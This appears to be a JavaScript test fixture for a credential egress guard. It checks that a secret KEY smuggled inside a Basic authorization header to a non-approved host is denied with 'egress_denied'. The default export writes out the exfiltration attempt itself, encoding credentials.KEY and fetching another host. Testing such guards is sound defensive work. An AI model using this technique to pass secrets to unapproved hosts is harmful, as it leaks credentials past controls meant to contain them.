export const attempt = {
  tries: "to send a credential to another host within Basic authentication",
  blockedBecause: "Basic authentication is decoded, too",
  ends: { code: "egress_denied", message: "KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ other }, { credentials }) => {
  const authorization = `Basic ${btoa(`me:${credentials.KEY}`)}`;
  await fetch(`http://${other}/reached`, { headers: { authorization } });
  return "got through";
};
